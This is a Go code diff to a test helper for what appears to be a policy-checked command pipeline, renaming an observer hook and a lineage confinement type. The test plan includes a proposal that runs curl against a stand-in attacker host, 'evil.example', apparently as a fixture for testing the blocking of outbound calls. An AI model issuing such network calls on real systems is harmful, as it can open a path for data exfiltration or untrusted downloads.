@@ -66,7 +66,7 @@ func writeLog(path string, events ...proposal.Event) error {
 	if err != nil {
 		return err
 	}
-	s.see = observer.See
+	s.see = observer.AddEvent
 	for i, e := range events {
 		e.Command, e.Time = "unit", at.Add(time.Duration(i)*time.Millisecond)
 		s.events = append(s.events, e)
@@ -75,7 +75,7 @@ func writeLog(path string, events ...proposal.Event) error {
 	if err != nil {
 		return err
 	}
-	stages := order.Stages{Checker: order.Checker{Policy: s}, Log: log, Redactor: u, Lineage: &lineage.Gate{Confine: policy.Confine}, Observer: observer, Now: clock,
+	stages := order.Stages{Checker: order.Checker{Policy: s}, Log: log, Redactor: u, Lineage: &lineage.ProgramDecider{Confine: policy.Confine}, Observer: observer, Now: clock,
 		Start: func(sandbox.Options) (order.Runner, error) { return s, nil }}
 	plan := proposal.Plan{Proposer: "tester", Proposals: []proposal.Proposal{{ID: "unit", Run: "go test ./..."}, {ID: "fetch", Run: "curl https://evil.example"}}}
 	if _, err := stages.Run(context.Background(), plan, proposal.Run{ID: "20261121-0405-7f3a", Proposer: "tester"}); err != nil {
